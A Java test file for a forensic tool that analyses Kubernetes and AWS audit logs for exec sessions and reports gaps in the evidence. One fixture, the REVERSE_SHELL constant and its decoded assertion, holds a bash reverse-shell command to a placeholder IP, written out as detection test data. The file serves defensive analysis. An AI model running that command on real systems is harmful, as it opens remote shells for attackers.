package org.ephemera.analyze.activity;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ephemera.analyze.testing.FixtureCalls.USER;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.ephemera.analyze.model.EvidenceGap;
import org.ephemera.analyze.model.Finding;
import org.ephemera.analyze.testing.FixtureResponse;
import org.ephemera.analyze.testing.SealedPackageFixture;
import org.ephemera.model.Outcome;
import org.ephemera.model.OutcomeCode;
import org.ephemera.testing.MemoryFolders;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Tests the gaps of the activity rules. */
class ActivityGapsTest {
    private static final String REVERSE_SHELL = "/api/v1/namespaces/shop/pods/checkout-1/exec?container=checkout"
            + "&command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";
    private static final String SHELL = "{\"cluster\":\"shop\",\"task\":\"9f3c1a7be4d24c0f8a6b5d2e17c0934a\","
            + "\"container\":\"checkout\",\"command\":\"/bin/sh\",\"interactive\":true}";

    @TempDir(factory = MemoryFolders.class)
    Path folder;

    private static List<String> of(String what, ActivityRules.Result result) {
        return result.gaps().stream()
                .filter(gap -> gap.what().equals(what))
                .map(EvidenceGap::why)
                .toList();
    }

    private static ActivityFixture session(String id) {
        ActivityFixture scene = new ActivityFixture();
        ObjectNode entry = scene.aws(0, USER, "ecs:ExecuteCommand", SHELL);
        entry.putObject("responseElements").putObject("session").put("sessionId", id);
        return scene;
    }

    @Test
    void decodesExecOverWebSocket() {
        ActivityFixture scene = new ActivityFixture();
        scene.kubernetes("jane", "get", REVERSE_SHELL, "pods", "exec");
        ActivityRules.Result result = scene.judge(folder);
        Finding exec = result.findings().getFirst();
        assertThat(exec.rule().id()).isEqualTo("EXE-001");
        assertThat(exec.subject()).isEqualTo("shop/checkout-1/checkout");
        assertThat(exec.because()).contains("get pods/exec: bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
        assertThat(of("EXE-001", result)).isEmpty();
    }

    @Test
    void reportsAuditLogWithoutReadRequests() {
        ActivityFixture scene = new ActivityFixture();
        scene.kubernetes("jane", "create", "/api/v1/namespaces/shop/pods", "pods", "");
        assertThat(of("EXE-001", scene.judge(folder)))
                .singleElement()
                .asString()
                .contains("kube-audit-admin");
    }

    /** An exec into a pod without other activity leaves no row with kube-audit-admin alone. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "kube-audit-admin            | NOT_ENABLED | is NOT_ENABLED",
                "kube-audit-admin            | PARTIAL     | is PARTIAL",
                "                            | EMPTY       | kube-audit",
                "kube-audit kube-audit-admin | EMPTY       |",
            })
    void reportsEmptyAuditLogUnlessReadRequestsAreLogged(
            @Nullable String sent, OutcomeCode code, @Nullable String gap) {
        String message = "kube-audit-admin alone is sent";
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .item(
                        "azure.aks.audit",
                        sent == null ? Map.of() : Map.of("categories", sent),
                        switch (code) {
                            case NOT_ENABLED -> new Outcome.NotEnabled(message);
                            case PARTIAL -> new Outcome.Partial(message);
                            default -> new Outcome.Empty("no rows");
                        });
        List<String> gaps = of("EXE-001", new ActivityFixture().judge(fixture));
        assertThat(gaps).hasSize(gap == null ? 0 : 1).allMatch(why -> gap != null && why.contains(gap));
    }

    @Test
    void citesLogOfSession() {
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .item(
                        "aws.ecs.exec-session",
                        Map.of("session", "s-1"),
                        FixtureResponse.json("logs:GetLogEvents", "{\"events\":[]}"));
        ActivityRules.Result result = session("s-1").judge(fixture);
        assertThat(of("EXE-004", result)).isEmpty();
        assertThat(result.findings().getFirst().evidence())
                .extracting(evidence -> evidence.file().split("/", -1)[2])
                .containsExactly("aws.cloudtrail.events.1", "aws.ecs.exec-session.1");
    }

    @Test
    void reportsSessionWithoutLog() {
        assertThat(of("EXE-004", session("s-1").judge(folder.resolve("a"))))
                .containsExactly(
                        "the input of the session s-1 is unknown: no log of the session was found in the configured"
                                + " log destination");
        SealedPackageFixture off = SealedPackageFixture.in(folder.resolve("b"))
                .item("aws.cloudtrail.events", Map.of("execLogging", "NONE"), new Outcome.Empty("nothing"));
        assertThat(of("EXE-004", session("s-1").judge(off)))
                .containsExactly("the input of the session s-1 is unknown: the cluster does not log exec sessions");
        SealedPackageFixture denied = SealedPackageFixture.in(folder.resolve("c"))
                .item(
                        "aws.ecs.exec-session",
                        Map.of("session", "s-1"),
                        new Outcome.Denied("s3:GetObject", "s3:GetObject is missing"));
        assertThat(of("EXE-004", session("s-1").judge(denied)))
                .singleElement()
                .asString()
                .contains("s3:GetObject is missing");
    }

    @Test
    void reportsExecWithoutSession() {
        ActivityFixture scene = new ActivityFixture();
        scene.aws(0, USER, "ecs:ExecuteCommand", SHELL);
        assertThat(of("EXE-004", scene.judge(folder))).hasSize(1);
    }

    @Test
    void reportsDeniedCallLog() {
        SealedPackageFixture denied = SealedPackageFixture.in(folder.resolve("a"))
                .item(
                        "aws.cloudtrail.events",
                        Map.of("a", "2"),
                        new Outcome.Denied("cloudtrail:LookupEvents", "cloudtrail:LookupEvents is missing"));
        assertThat(of("EXE", new ActivityFixture().judge(denied)))
                .singleElement()
                .asString()
                .contains("DENIED", "is missing");
        assertThat(of("EXE", new ActivityFixture().judge(folder.resolve("b")))).hasSize(1);
    }

    @Test
    void reportsIncompleteAuditLog() {
        SealedPackageFixture off = SealedPackageFixture.in(folder)
                .item(
                        "aws.eks.audit",
                        Map.of("auditLogging", "off"),
                        new Outcome.Partial("2 requests about the target, and none since it was turned off"));
        assertThat(of("EXE-001", new ActivityFixture().judge(off)))
                .singleElement()
                .asString()
                .contains("PARTIAL", "turned off");
    }

    @Test
    void reportsThatOnlyOneRegionIsCovered() {
        ActivityFixture scene = new ActivityFixture();
        scene.aws(0, USER, "ecs:CreateCluster", "{}");
        assertThat(of("EXE-010", scene.judge(folder)))
                .singleElement()
                .asString()
                .contains("eu-central-1");
    }

    /** A query by key covers a region even without activity there, but only regions other than the target's. */
    @ParameterizedTest
    @CsvSource({"us-east-1, EMPTY, 0", "us-east-1, COLLECTED, 0", "eu-central-1, EMPTY, 1"})
    void acceptsQueriedRegion(String region, OutcomeCode code, int gaps) {
        SealedPackageFixture fixture =
                SealedPackageFixture.in(folder).item("aws.cloudtrail.events", byKey(region), code.with("", "none"));
        ActivityFixture scene = new ActivityFixture();
        scene.aws(0, USER, "ecs:CreateCluster", "{}");
        assertThat(of("EXE-010", scene.judge(fixture))).hasSize(gaps);
    }

    @Test
    void reportsDeniedRegion() {
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .item(
                        "aws.cloudtrail.events",
                        byKey("ap-south-1"),
                        new Outcome.Denied("cloudtrail:LookupEvents", "a service control policy denies it"))
                .item("aws.cloudtrail.events", byKey("us-east-1"), new Outcome.Empty("none"));
        ActivityFixture scene = new ActivityFixture();
        scene.aws(0, USER, "ecs:CreateCluster", "{}");
        ActivityRules.Result result = scene.judge(fixture);
        assertThat(of("EXE-010", result))
                .singleElement()
                .asString()
                .contains("[redacted] in ap-south-1", "service control");
        assertThat(of("EXE", result)).isEmpty();
    }

    @Test
    void reportsDeniedRegionList() {
        SealedPackageFixture fixture = SealedPackageFixture.in(folder)
                .item(
                        "aws.ec2.regions",
                        Map.of("keys", "[]"),
                        new Outcome.Denied("ec2:DescribeRegions", "ec2:DescribeRegions is missing"))
                .item("aws.cloudtrail.events", byKey("us-east-1"), new Outcome.Empty("none"));
        assertThat(of("EXE-010", new ActivityFixture().judge(fixture)))
                .singleElement()
                .asString()
                .contains("ec2:DescribeRegions is missing");
    }

    private static Map<String, String> byKey(String region) {
        return Map.of("attribute", "AccessKeyId", "value", "AKIAEXAMPLE000BUILD00", "region", region);
    }

    @Test
    void ignoresCallsOfCollector() {
        ActivityFixture scene = new ActivityFixture();
        String collector = "arn:aws:sts::111122223333:assumed-role/ephemera-collector/test";
        scene.aws(0, collector, "ecs:DescribeTasks", "{}");
        scene.kubernetes("jane", "list", "/api/v1/pods", "pods", "");
        ActivityRules.Result result =
                scene.judge(SealedPackageFixture.in(folder).principal(collector));
        assertThat(result.findings()).isEmpty();
    }
}
